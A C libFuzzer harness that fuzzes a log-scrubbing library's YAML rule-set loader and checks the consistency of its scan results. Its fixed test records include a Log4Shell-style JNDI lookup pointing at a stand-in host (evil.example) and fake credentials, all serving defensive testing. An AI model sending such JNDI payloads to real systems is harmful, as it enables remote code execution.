/* fuzz_config: libFuzzer target for scrub_ruleset_load and what a loaded rule set then does. */
/* SPDX-License-Identifier: Apache-2.0 */

/*
 * Build: make fuzz-config  (clang -fsanitize=fuzzer,address,undefined, core in build-fuzz/)
 * Run:   build-fuzz/fuzz_config -max_len=8192 -max_total_time=60 <scratch copy of corpus/config>
 * Replay without libFuzzer: build with -DFUZZ_REPLAY_MAIN (any compiler) and pass files.
 *
 * The input is written to cfg.yaml in a private temporary directory that also
 * holds pack.yaml, a small rule pack, so `include: [pack.yaml]` (and includes
 * of cfg.yaml itself, i.e. cycles) resolve. On success the harness lists the
 * rules, scans fixed records whole and as JSON fields, checks the rule
 * examples and renders the statistics. abort() when:
 *  - a failed load returns a code other than ECONFIG/EREGEX/ENOMEM, leaves
 *    *out set, or leaves errstr empty;
 *  - a scan result is inconsistent: a finding outside the record or out of
 *    order, an unknown rule index, a failure without a quarantine/drop
 *    verdict, or a forwarded record whose output is missing.
 * Inputs naming device or proc files are skipped: an include of /dev/zero or
 * /dev/stdin never ends, and the loader reads what a trusted config names.
 */

#include "scrub.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char pack_yaml[] =
    "name: fuzz-pack\n"
    "rules:\n"
    "  - id: pack-bearer\n"
    "    regex: '(?i)bearer\\s+([A-Za-z0-9._~+/-]{8,})'\n"
    "    keywords: [bearer]\n"
    "    secret_group: 1\n"
    "    examples:\n"
    "      match: ['Authorization: Bearer abcdefgh12345678']\n"
    "      no_match: ['bearer']\n";

/* Records every loaded rule set scans (test data, never printed). */
static const char *const records[] = {
    "GET /?q=${jndi:ldap://evil.example/a} HTTP/1.1",
    "Authorization: Bearer abcdefghijklmnop1234 user=alice password=hunter2",
    "{\"msg\":\"login\",\"token\":\"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\",\"n\":1}",
    "card=4111111111111111 iban=GB82WEST12345698765432 aaaaaaaaaaaaaaaaaaaaaaaaaaaaaac",
    "\xff\xfe invalid \xc3\x28 utf-8 \xed\xa0\x80 surrogate",
    "",
};

/* Harness state built once in LLVMFuzzerInitialize (test code: globals are fine here). */
static char dir[64];          /* private temporary directory */
static char cfg_path[96];     /* dir/cfg.yaml */

int LLVMFuzzerInitialize(int *argc, char ***argv);
int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static void write_file(const char *path, const void *p, size_t n)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);

    if (fd < 0 || (n > 0 && write(fd, p, n) != (ssize_t)n) || close(fd) != 0) {
        fprintf(stderr, "fuzz_config: cannot write %s\n", path);
        abort();
    }
}

static void cleanup(void)
{
    char p[128];

    snprintf(p, sizeof(p), "%s/pack.yaml", dir);
    unlink(p);
    unlink(cfg_path);
    rmdir(dir);
}

int LLVMFuzzerInitialize(int *argc, char ***argv)
{
    char p[128];

    (void)argc;
    (void)argv;
    snprintf(dir, sizeof(dir), "/tmp/fuzz_config_XXXXXX");
    if (mkdtemp(dir) == NULL) {
        perror("fuzz_config: mkdtemp");
        abort();
    }
    snprintf(p, sizeof(p), "%s/pack.yaml", dir);
    write_file(p, pack_yaml, sizeof(pack_yaml) - 1);
    snprintf(cfg_path, sizeof(cfg_path), "%s/cfg.yaml", dir);
    atexit(cleanup);
    return 0;
}

/* ---- checks ------------------------------------------------------------------------- */

static void discard_line(void *ctx, const char *line)
{
    (void)ctx;
    (void)line;
}

static void discard_warning(void *ctx, const char *msg)
{
    (void)ctx;
    (void)msg;
}

static void check_result(const scrub_ruleset_t *rs, const scrub_result_t *res,
                         const uint8_t *rec, size_t len)
{
    size_t i;

    for (i = 0; i < res->nfindings; i++) {
        const scrub_finding_t *f = &res->findings[i];
        if (f->start > f->end || f->end > len || f->rule >= scrub_ruleset_count(rs) ||
            (i > 0 && f->start < res->findings[i - 1].start)) {
            abort();
        }
    }
    if (res->failure != SCRUB_FAIL_NONE && res->verdict != SCRUB_V_QUARANTINED &&
        res->verdict != SCRUB_V_DROPPED) {
        abort(); /* fail closed */
    }
    if (res->failed_rule >= 0 && (size_t)res->failed_rule >= scrub_ruleset_count(rs)) {
        abort();
    }
    if ((res->verdict == SCRUB_V_REDACTED || res->verdict == SCRUB_V_CLEAN ||
         res->verdict == SCRUB_V_TAGGED) && res->out == NULL && res->out_len > 0) {
        abort();
    }
    if ((res->verdict == SCRUB_V_CLEAN || res->verdict == SCRUB_V_TAGGED) &&
        (res->out_len != len || (len > 0 && memcmp(res->out, rec, len) != 0))) {
        abort(); /* forwarded unchanged means byte-identical */
    }
}

static void exercise(scrub_ruleset_t *rs)
{
    scrub_worker_t *w = scrub_worker_new(rs);
    scrub_stats_t *st = scrub_stats_new(rs);
    scrub_rule_info_t ri;
    scrub_result_t res;
    size_t i, checked = 0;
    char *json;
    char fp[33];

    if (w == NULL || st == NULL) {
        abort();
    }
    for (i = 0; i < scrub_ruleset_count(rs); i++) {
        if (scrub_ruleset_rule(rs, i, &ri) != 0 || ri.id == NULL || ri.pattern == NULL) {
            abort();
        }
    }
    (void)scrub_ruleset_max_record(rs);
    (void)scrub_ruleset_quarantine_path(rs);
    (void)scrub_ruleset_audit_path(rs);
    for (i = 0; i < sizeof(records) / sizeof(records[0]); i++) {
        const uint8_t *rec = (const uint8_t *)records[i];
        size_t len = strlen(records[i]);
        scrub_worker_scan(w, rec, len, &res);
        check_result(rs, &res, rec, len);
        scrub_stats_add(st, &res, len);
        scrub_worker_scan_field(w, (const uint8_t *)"request.headers.authorization", 29, rec,
                                len, &res);
        check_result(rs, &res, rec, len);
    }
    scrub_ruleset_fingerprint(rs, (const uint8_t *)"x", 1, fp, 32);
    if (scrub_ruleset_test_examples(rs, discard_line, NULL, &checked) < -100) {
        abort();
    }
    json = scrub_stats_json(st, rs);
    free(json);
    scrub_stats_destroy(st);
    scrub_worker_destroy(w);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    scrub_load_opts_t lo;
    scrub_ruleset_t *rs = NULL;
    char err[1024];
    int rc;

    if (memmem(data, size, "/dev", 4) != NULL || memmem(data, size, "/proc", 5) != NULL ||
        memmem(data, size, "/sys", 4) != NULL) {
        return 0;
    }
    write_file(cfg_path, data, size);
    memset(&lo, 0, sizeof(lo));
    lo.warn = discard_warning;
    err[0] = '\0';
    rc = scrub_ruleset_load(cfg_path, &lo, &rs, err, sizeof(err));
    if (rc != 0) {
        if (rs != NULL || err[0] == '\0' ||
            (rc != SCRUB_ECONFIG && rc != SCRUB_EREGEX && rc != SCRUB_ENOMEM)) {
            abort();
        }
        return 0;
    }
    if (rs == NULL) {
        abort();
    }
    exercise(rs);
    scrub_ruleset_unref(rs);
    return 0;
}

#ifdef FUZZ_REPLAY_MAIN
/* Replay files through the target (no libFuzzer). */
int main(int argc, char **argv)
{
    int i;

    LLVMFuzzerInitialize(&argc, &argv);
    for (i = 1; i < argc; i++) {
        FILE *f = fopen(argv[i], "rb");
        uint8_t *buf = NULL;
        size_t n = 0, cap = 0, k;

        if (f == NULL) {
            perror(argv[i]);
            return 1;
        }
        do {
            if (n == cap) {
                cap = cap ? cap * 2 : 4096;
                buf = realloc(buf, cap);
                if (buf == NULL) {
                    abort();
                }
            }
            k = fread(buf + n, 1, cap - n, f);
            n += k;
        } while (k > 0);
        fclose(f);
        LLVMFuzzerTestOneInput(buf, n);
        free(buf);
    }
    printf("fuzz_config: %d inputs replayed\n", argc - 1);
    return 0;
}
#endif
